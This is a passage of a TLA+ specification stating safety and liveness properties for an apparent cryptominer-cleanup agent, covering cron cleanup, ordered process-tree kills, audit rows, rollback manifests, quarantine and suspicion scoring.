\* C22 as stated: after a successful remove_cron_safely(file, m) without
\* dry_run a backup holds the original content and the cron file is exactly
\* the original non-empty lines that do not contain m, in their order, or a
\* single marker line when none remains.
C22_NonEmptyLinesKept ==
    CronRemoved =>
        CronLeft(SelectSeq(scan_local.current_content.lines,
                           LAMBDA line : /\ ~contains(line, scan_local.malicious_content)
                                         /\ line # Blank))

\* C22 amended: ... exactly the original lines that do not contain m and are
\* not blank (empty once trimmed of white space), in their order, or a single
\* marker line when none remains.
C22_NonBlankLinesKept ==
    CronRemoved =>
        CronLeft(SelectSeq(scan_local.current_content.lines,
                           LAMBDA line : /\ ~contains(line, scan_local.malicious_content)
                                         /\ line \notin {Blank, Spaces}))

\* The only job of the file removed: the marker line is left.
C22_Witness ==
    /\ CronRemoved
    /\ scan_local.current_content.lines = <<JobMiner>>
    /\ cron_file.lines = <<CleanedMarker>>

C24_ThresholdIsTheMaximum ==
    environment.pc = "done" =>
        LET vcpu == unwrap_or(environment.vcpu_override, environment.vcpu_count)
            base == Frac(environment.base_threshold, 1)
            result == environment.threshold
        IN  /\ Geq(result, Frac(5, 1))
            /\ Geq(result, base)
            /\ vcpu > 0 =>
                   /\ \E v \in {base, Frac(5, 1), Frac(25, vcpu)} :
                          Geq(result, v) /\ Geq(v, result)
                   /\ Geq(result, Frac(25, vcpu))

\* ------------------------------------------------------------ C25
\* The descendants of pid in the tree as it was listed.
RECURSIVE ListedDescendants(_, _)
ListedDescendants(pid, found) ==
    LET more == {q \in TreePids : /\ killer.table[q].alive
                                  /\ q # TreeRoot
                                  /\ killer.table[q].ppid \in found \cup {pid}}
    IN  IF more = found THEN found ELSE ListedDescendants(pid, more)

\* C25: in kill_process_tree and kill_processes_using_file, for every shape
\* of process tree, SIGTERM is sent to a process only after SIGTERM has been
\* sent to all of its descendants in the listed tree, and the root is
\* signalled last.
C25_SigtermDescendantsFirst ==
    killer.pc # "idle" =>
        /\ \A i \in DOMAIN signals :
               signals[i].sig = "SIGTERM" =>
                   \A d \in ListedDescendants(signals[i].pid, {}) :
                       \E j \in 1..(i - 1) : signals[j] = [pid |-> d, sig |-> "SIGTERM"]
        /\ \A i, j \in DOMAIN signals :
               (signals[i] = [pid |-> TreeRoot, sig |-> "SIGTERM"]
                    /\ signals[j].sig = "SIGTERM") => j <= i
        /\ killer.pc = "done" =>
               /\ \E i \in DOMAIN signals : signals[i] = [pid |-> TreeRoot, sig |-> "SIGTERM"]
               /\ \A q \in ListedDescendants(TreeRoot, {}) :
                      \E i \in DOMAIN signals : signals[i] = [pid |-> q, sig |-> "SIGTERM"]

\* The kill of a chain of four processes is over, the process map having
\* yielded them child before parent.
C25_Witness ==
    /\ killer.pc = "done"
    /\ killer.scan = <<4, 3, 2>>
    /\ \A p \in TreePids \ {TreeRoot} : killer.table[p] = [ppid |-> p - 1, alive |-> TRUE]
    /\ SelectSeq(signals, LAMBDA x : x.sig = "SIGTERM") = Sent(<<4, 3, 2, 1>>, "SIGTERM")

\* ------------------------------------------------------------ C26
\* The descendants of the root in the process table as it is now.
RECURSIVE LiveDescendants(_)
LiveDescendants(found) ==
    LET more == {q \in TreePids : /\ processes[q].alive
                                  /\ q # TreeRoot
                                  /\ processes[q].ppid \in found \cup {TreeRoot}}
    IN  IF more = found THEN found ELSE LiveDescendants(more)

\* C26: in a tree kill the tree is listed again between the SIGTERM phase and
\* the SIGKILL phase: a child forked by a member of the tree after the first
\* listing and alive at the SIGKILL phase receives SIGKILL, so no descendant
\* of the root alive at that point is left unsignalled.
C26_ForkedChildIsKilled ==
    [][(killer.pc = "kill" /\ killer'.pc = "root") =>
           \A q \in LiveDescendants({}) :
               \E i \in DOMAIN signals' : signals'[i] = [pid |-> q, sig |-> "SIGKILL"]]_vars

\* ------------------------------------------------------------ C27
\* The pid and the signal of the last signal sent.
LastSignalIs(pid, sig) ==
    /\ signals # <<>>
    /\ signals[Len(signals)].pid = pid
    /\ signals[Len(signals)].sig = sig

\* A KillAction row is written only by a kill_direct or kill_process that
\* has delivered SIGTERM to the row's pid.
RowOnlyAfterSigterm ==
    kill_actions' # kill_actions =>
        /\ killer.pc = "wait"
        /\ LastSignalIs(killer.pid, "SIGTERM")
        /\ kill_actions' = Append(kill_actions, [pid |-> killer.pid, confidence |-> 100])

\* C27: a KillAction row for a pid is written only after SIGTERM has been
\* delivered to that pid in the same execution (kill_direct, kill_process),
\* and every delivered SIGTERM is followed by a KillAction write for that
\* pid, so the audit table reflects exactly the attempted kills.
C27_RowForEveryDeliveredSigterm ==
    [][/\ RowOnlyAfterSigterm
       /\ (killer.pc = "wait" /\ killer'.pc = "done") =>
              kill_actions' = Append(kill_actions, [pid |-> killer.pid, confidence |-> 100])]_vars

\* C27, amended: the row is written only after the SIGTERM was delivered, and
\* every delivered SIGTERM is followed by a record_kill_action call for the
\* pid, which adds the row exactly when the INSERT succeeds.
C27_RecordCalledForEveryDeliveredSigterm ==
    [][/\ RowOnlyAfterSigterm
       /\ (killer.pc = "wait" /\ killer'.pc = "done") =>
              /\ killer'.recorded \in {"Ok", "Err"}
              /\ killer'.recorded = "Ok" <=>
                     kill_actions' = Append(kill_actions,
                                            [pid |-> killer.pid, confidence |-> 100])
              /\ killer'.recorded = "Err" <=> kill_actions' = kill_actions]_vars

\* A kill has delivered its SIGTERM and written its row.
C27_Witness ==
    /\ killer.pc = "done"
    /\ killer.recorded = "Ok"
    /\ \E i \in DOMAIN signals : signals[i].pid = killer.pid /\ signals[i].sig = "SIGTERM"
    /\ kill_actions # <<>>
    /\ kill_actions[Len(kill_actions)].pid = killer.pid

\* ------------------------------------------------------------ C28
\* The location rule of decide_action, step 5.
SuspiciousLocation(binary_path) ==
    \/ IsPrefix(<<"tmp">>, binary_path)
    \/ IsPrefix(<<"var", "tmp">>, binary_path)
    \/ IsPrefix(<<"home">>, binary_path) /\ ~is_whitelisted_home_directory(binary_path)

\* C28: the safe-kill engine delivers a direct SIGTERM / SIGKILL only to a
\* process whose exe is under /tmp, /var/tmp or a non-whitelisted /home
\* location, also when the PM2 or systemd binding seen by decide_action is no
\* longer in the index by the time execute_action runs StopPm2 or StopUnit.
C28_DirectSignalsOnlyByLocation ==
    \A i \in DOMAIN signals : SuspiciousLocation(signals[i].binary_path)

\* ------------------------------------------------------------ C29
\* C29: each supervisor sub-index is rebuilt exactly on a query made when at
\* least refresh_interval has elapsed since its last refresh; every query
\* made earlier leaves the index unchanged and is answered from it, the empty
\* index that exists from construction until the first interval included.
C29_RebuiltExactlyOnQueryAfterInterval ==
    [][index'.queries # index.queries =>
           /\ IF index.now - index.last_refresh >= refresh_interval(index.kind)
              THEN /\ index'.entries = index.listed
                   /\ index'.last_refresh = index.now
              ELSE /\ index'.entries = index.entries
                   /\ index'.last_refresh = index.last_refresh
           /\ index'.answer = (index'.pid \in index'.entries)]_vars

\* ------------------------------------------------------------ C30
\* The rollback manifest of a stem is on disk.
ManifestSaved(stem) == disk[stem] # NoFile

\* The cron file is no longer what remove_cron_safely read.
CronMutated ==
    /\ "current_content" \in DOMAIN scan_local
    /\ cron_file # scan_local.current_content

\* The detected file is no longer where it was found.
FileMutated == file_name(MalwarePath) \notin parent_dir.files

\* C30: if the agent is cancelled or crashes at any point during a
\* destructive action, the persistent state afterwards is consistent: the
\* rollback manifest for the action is saved if and only if the mutation it
\* covers has been applied.
C30_ManifestIffMutation ==
    /\ ManifestSaved("cron_hora") <=> CronMutated
    /\ ManifestSaved("malware_xmrig") <=> FileMutated

\* ------------------------------------------------------------ C31
\* C31: in every infinite run of the main loop each periodic job (cron scan,
\* file scan when enabled, zombie check, deploy-record pruning, DB
\* maintenance) runs infinitely often, each exactly when its own counter
\* reaches its interval and independently of the other counters.
C31_PeriodicJobsRunForever ==
    /\ []<>("cron_scan" \in tick.ran)
    /\ []<>(tick.file_scan_interval = Never \/ "file_scan" \in tick.ran)
    /\ []<>("zombie_check" \in tick.ran)
    /\ []<>("deploy_cleanup" \in tick.ran)
    /\ []<>("db_maintenance" \in tick.ran)

\* ------------------------------------------------------------ C32
\* C32: for a directory yielding n > 10 files with parallel_scan = true,
\* scan_directory partitions the file list into at most max_scan_threads
\* chunks, one worker per chunk, so that at most max_scan_threads workers run
\* and every file is scanned by exactly one worker.
C32_AtMostMaxScanThreadsWorkers ==
    (scanner.pc = "done" /\ scanner.parallel_scan /\ scanner.files > 10) =>
        /\ Len(scanner.workers) <= scanner.max_scan_threads
        /\ \A f \in 1..scanner.files :
               Cardinality({<<w, i>> \in (DOMAIN scanner.workers) \X (1..scanner.files) :
                               /\ i \in DOMAIN scanner.workers[w]
                               /\ scanner.workers[w][i] = f}) = 1

\* ------------------------------------------------------------ C33
\* The rows of a table for a (pid, exe) pair.
RowsFor(rows, process) ==
    {i \in DOMAIN rows : rows[i].pid = process.pid
                         /\ rows[i].binary_path = process.binary_path}

\* The pid of the most recent row for an exe, 0 when there is none.
LatestPid(rows, exe) ==
    IF \E i \in DOMAIN rows : rows[i].binary_path = exe
    THEN rows[CHOOSE i \in DOMAIN rows :
                 /\ rows[i].binary_path = exe
                 /\ \A j \in DOMAIN rows : rows[j].binary_path = exe => j <= i].pid
    ELSE 0

\* C33: for every sequence of record_suspicious_process calls, an upsert for a
\* (pid, exe) pair that already has a row increases that row's spawn_count by
\* exactly 1 and creates no new row (never more than one row per pair); and a
\* call for an exe whose most recent record has a different pid stores
\* restart_detected = true.
C33_UpsertCountsAndFlagsRestart ==
    [][handled' = handled + 1 =>
           LET process == cur'.process
               before == RowsFor(suspicious_processes, process)
               after == RowsFor(suspicious_processes', process)
               latest == LatestPid(suspicious_processes, process.binary_path)
           IN  /\ Cardinality(after) = 1
               /\ \A i \in after :
                      /\ \A j \in before :
                             suspicious_processes'[i].spawn_count =
                                 suspicious_processes[j].spawn_count + 1
                      /\ (latest # 0 /\ latest # process.pid) =>
                             suspicious_processes'[i].restart_detected
               /\ Len(suspicious_processes') =
                      Len(suspicious_processes) + (IF before = {} THEN 1 ELSE 0)]_vars

\* A pid seen three times has spawn_count 3 in its one row; the same exe has
\* then come back under the other pid and its row is flagged as a restart.
C33_Witness ==
    /\ handled = 4
    /\ Len(suspicious_processes) = 2
    /\ \E i, j \in DOMAIN suspicious_processes :
           /\ suspicious_processes[i].binary_path = ExeTmp
           /\ suspicious_processes[i].spawn_count = 3
           /\ suspicious_processes[j].binary_path = ExeTmp
           /\ suspicious_processes[j].pid # suspicious_processes[i].pid
           /\ suspicious_processes[j].restart_detected

\* ------------------------------------------------------------ C34
\* The reference formula, in hundredths.
ReferenceConfidence(process, cpu_percent, duration) ==
    LET subtotal == (IF cpu_percent >= 30 THEN 40 ELSE IF cpu_percent >= 20 THEN 30 ELSE 0)
                    + (IF duration >= 600 THEN 20 ELSE 0)
        safe == \E dir \in {<<"usr", "bin">>, <<"usr", "sbin">>, <<"bin">>, <<"sbin">>} :
                    StartsWithDir(process.binary_path, dir)
        keyword == IF process.command_line \cap suspicious_patterns # {} THEN 20 ELSE 0
        location == IF \/ StartsWithDir(process.binary_path, <<"tmp">>)
                       \/ StartsWithDir(process.binary_path, <<"var", "tmp">>)
                       \/ ContainsDir(process.binary_path, <<".cache">>)
                       \/ ContainsDir(process.binary_path, <<"dev", "shm">>)
                       \/ ContainsDir(process.binary_path, <<".local">>)
                    THEN 20 ELSE 0
        parent == IF process.ppid > 1 /\ process.ppid # process.pid THEN 10 ELSE 0
    IN  Min((IF safe THEN (subtotal * 3) \div 10 ELSE subtotal) + keyword + location + parent,
            100)

\* C34: for a process with no stored record analyze_process equals the
\* reference formula: +0.4 when cpu >= 30, else +0.3 when cpu >= 20; +0.2 when
\* duration >= 600 s (the boundary values included); the subtotal times 0.3
\* for an exe under /usr/bin, /usr/sbin, /bin or /sbin; then +0.2 once for a
\* keyword, +0.2 for a suspect location, +0.1 when ppid > 1 and ppid != pid;
\* clamped to 1.0.
C34_ConfidenceIsTheReference ==
    cur.taken =>
        cur.confidence = ReferenceConfidence(cur.process, cur.cpu_percent, cur.duration)

\* ------------------------------------------------------------ C36
\* A line references the detected file when it holds its path or its name.
ReferencesMalware(line) == contains(line, "/tmp/xmrig")

\* The entries of a cron file: its lines that are not blank; none when there
\* is no file.
CronEntries(cron) ==
    IF cron = NoCron THEN <<>>
    ELSE SelectSeq(cron.lines, LAMBDA line : ~trim_is_empty(line))

\* C36: the origin cleanup changes or removes the cron file only if one of
\* its entries references the detected file, and then the entries left are
\* exactly those that do not reference it, in their order.
C36_OnlyReferencingEntriesRemoved ==
    [][(scan_pc = "cleanup" /\ cron_file' # cron_file) =>
          /\ \E i \in DOMAIN cron_file.lines : ReferencesMalware(cron_file.lines[i])
          /\ CronEntries(cron_file') =
                 SelectSeq(CronEntries(cron_file), LAMBDA line : ~ReferencesMalware(line))]_vars

\* ------------------------------------------------------------ C37
\* C37: after any sequence of quarantine_file calls every file a call has
\* quarantined is in the vault under the path the call returned, with its
\* content: no later call has overwritten or removed it.
C37_VaultIsAppendOnly ==
    \A i \in DOMAIN scanner.calls :
        scanner.calls[i].ok =>
            [name |-> scanner.calls[i].quarantine_path,
             content |-> scanner.calls[i].file_path.content] \in scanner.quarantine_dir

\* ------------------------------------------------------------ C38
\* The kill and stop attempts made on a pid: the SIGTERMs sent to it and the
\* supervisor stops asked for it.
AttemptsOn(pid) ==
    Cardinality({i \in DOMAIN signals : signals[i].pid = pid /\ signals[i].sig = "SIGTERM"})
        + Cardinality({i \in DOMAIN supervisor_stops : supervisor_stops[i].pid = pid})

\* C38: while the main loop handles one detection it makes at most one kill
\* or stop attempt on the detected pid, whatever npm infections and React
\* findings come with the process.
C38_OneAttemptPerDetection ==
    handled <= 1 => \A pid \in Pids : AttemptsOn(pid) <= 1

\* ------------------------------------------------------------ C39
\* C39: analyze emits no detection from a negative elapsed time: when the
\* clock has stepped back so that now < first_seen for a tracked pid, no
\* detection is emitted for that pid.
C39_NoDetectionFromNegativeElapsed ==
    \A d \in cpu_abuses : ~(d.last_seen < d.first_seen)

\* ------------------------------------------------------------ C40
\* The row stored for the detected process, NoRow if there is none.
StoredRow(rows) ==
    LET same == {i \in 1..Len(rows) : rows[i].binary_path = cur.process.binary_path
                                       /\ rows[i].pid = cur.process.pid}
    IN  IF same = {} THEN NoRow ELSE rows[CHOOSE i \in same : TRUE]

\* The tick is no restart: the binary was last seen under this pid.
SamePidAsBefore ==
    /\ handled' = handled + 1
    /\ StoredRow(suspicious_processes) # NoRow
    /\ get_suspicious_by_binary(suspicious_processes, cur.process.binary_path) =
           StoredRow(suspicious_processes)

\* Every such tick adds one to the stored spawn_count.
SpawnCountGrows ==
    SamePidAsBefore =>
        StoredRow(suspicious_processes').spawn_count =
            StoredRow(suspicious_processes).spawn_count + 1

\* Once the stored spawn_count is above 3 a tick adds 0.1 to the persisted
\* confidence, up to 1.0.
ConfidenceRises ==
    (SamePidAsBefore /\ StoredRow(suspicious_processes).spawn_count > 3) =>
        StoredRow(suspicious_processes').threat_confidence =
            Min(StoredRow(suspicious_processes).threat_confidence + 10, 100)

\* C40: a process detected tick after tick under one pid has its stored
\* spawn_count increased at every tick; once that is above 3 its persisted
\* confidence rises by 0.1 per tick up to 1.0; so it reaches 1.0, and with it
\* every configured threshold, and stays there.
C40_StayingDetectedReachesEveryThreshold ==
    /\ [][SpawnCountGrows /\ ConfidenceRises]_vars
    /\ <>[](StoredRow(suspicious_processes) # NoRow
             /\ StoredRow(suspicious_processes).threat_confidence = 100)

\* The twelfth tick of a process the table had no row for: its row counts
\* twelve detections and its confidence has come to 1.0.
C40_Witness ==
    /\ handled = 12
    /\ StoredRow(suspicious_processes) # NoRow
    /\ StoredRow(suspicious_processes).spawn_count = 12
    /\ StoredRow(suspicious_processes).threat_confidence = 100
    /\ cur.confidence = 100

====
